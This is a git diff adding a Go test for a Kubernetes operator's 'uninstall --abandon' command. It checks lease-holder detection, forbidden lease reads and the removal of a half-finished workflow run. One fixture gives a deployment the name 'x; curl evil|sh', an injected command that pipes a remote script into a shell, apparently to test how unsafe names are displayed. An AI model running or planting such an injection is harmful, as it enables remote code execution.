@@ -228,4 +228,76 @@ var _ = Describe("Whoever looks after it", func() {
 			Expect(list).To(HaveField("Items", BeEmpty()))
 		}
 	})
+	It("abandons a run that is under way only if nobody is left to end it, and shows what is half done", Serial, func(ctx SpecContext) {
+		empty(ctx)
+		web, gone := build.DeploymentTarget(ns, "web", "u").ObjectReference, build.DeploymentTarget(ns, "x; curl evil|sh", "u").ObjectReference
+		node := v1alpha1.ObjectReference{APIVersion: "v1", Kind: "Node", Name: "node-1"}
+		run := build.Run(ns, "half", build.DeploymentTarget(ns, "web", "u")).Step("one", "RolloutRestart", nil).With(func(r *v1alpha1.WorkflowRun) {
+			r.Finalizers = []string{v1alpha1.RunFinalizer}
+			r.Status.Actor = kubetest.RemediatorUser(ns)
+			r.Status.Steps = []v1alpha1.StepStatus{{Name: "one", State: v1alpha1.StepRunning, Operations: []v1alpha1.OperationStatus{
+				{Operation: v1alpha1.Operation{Verb: v1alpha1.VerbPatch, Object: node}, State: v1alpha1.OperationApplied},
+				{Operation: v1alpha1.Operation{Verb: v1alpha1.VerbPatch, Object: web}, State: v1alpha1.OperationClaimed},
+				{Operation: v1alpha1.Operation{Verb: v1alpha1.VerbDelete, Object: gone}, State: v1alpha1.OperationClaimed},
+				{Operation: v1alpha1.Operation{Verb: v1alpha1.VerbPatch, Object: web}},
+			}}}
+		}).Obj()
+		began := build.Run(ns, "just-began", build.DeploymentTarget(ns, "web", "u")).Step("one", "RolloutRestart", nil).With(func(r *v1alpha1.WorkflowRun) {
+			r.Status.Actor = kubetest.RemediatorUser(ns)
+		}).Obj()
+		operator := build.Deployment(home, "my-kubernaut").With(labelled).Obj()
+		server.Create(ctx, run, began, operator)
+		off := cli.Uninstall{Operator: shipped, Abandon: true, Yes: true}
+		printed("uninstall-abandon-no-lease.txt", ns, out, off.Run(ctx, root, out))
+
+		leads := &coordinationv1.Lease{
+			ObjectMeta: metav1.ObjectMeta{Namespace: home, Name: "kubernaut-leader"},
+			Spec:       coordinationv1.LeaseSpec{HolderIdentity: new("pod-1"), LeaseDurationSeconds: new(int32(1)), RenewTime: new(metav1.NowMicro())},
+		}
+		server.Create(ctx, leads)
+		DeferCleanup(func(ctx SpecContext) {
+			Expect(server.Client.Delete(ctx, leads)).To(Succeed())
+			Expect(server.Client.Delete(ctx, operator)).To(Succeed())
+		})
+		printed("uninstall-abandon-at-work.txt", ns, out, off.Run(ctx, cli.Cluster{Client: renewing{server.Client}, Namespace: ns}, out))
+		printed("uninstall-abandon-forbidden.txt", ns, out, off.Run(ctx, cli.Cluster{Client: blind{server.Client}, Namespace: ns}, out))
+		Expect(server.Client.Get(ctx, client.ObjectKeyFromObject(run), run)).To(Succeed())
+
+		off.Yes = false
+		printed("uninstall-abandon.txt", ns, out, off.Run(ctx, root, out))
+		Expect(server.Client.Get(ctx, client.ObjectKeyFromObject(run), run)).To(Succeed())
+		off.Yes = true
+		Expect(off.Run(ctx, root, out)).To(Succeed())
+		Expect(server.Client.Get(ctx, client.ObjectKeyFromObject(run), run)).To(MatchError(apierrors.IsNotFound, "is gone"))
+	})
 })
+
+// labelled makes a Deployment one that config/manager installs.
+func labelled(d *appsv1.Deployment) {
+	d.Labels = map[string]string{"app.kubernetes.io/name": "kubernaut"}
+}
+
+// renewing is a cluster whose leader renews its lease after whoever looks has looked.
+type renewing struct{ client.Client }
+
+func (r renewing) Get(ctx context.Context, key client.ObjectKey, obj client.Object, options ...client.GetOption) error {
+	if err := r.Client.Get(ctx, key, obj, options...); err != nil {
+		return err
+	}
+	held, ok := obj.DeepCopyObject().(*coordinationv1.Lease)
+	if !ok {
+		return nil
+	}
+	held.Spec.RenewTime = new(metav1.NowMicro())
+	return r.Update(ctx, held)
+}
+
+// blind is a cluster to somebody who may do all but look at leases.
+type blind struct{ client.Client }
+
+func (b blind) Get(ctx context.Context, key client.ObjectKey, obj client.Object, options ...client.GetOption) error {
+	if _, ok := obj.(*coordinationv1.Lease); ok {
+		return server.As("nobody").Get(ctx, key, obj, options...)
+	}
+	return b.Client.Get(ctx, key, obj, options...)
+}
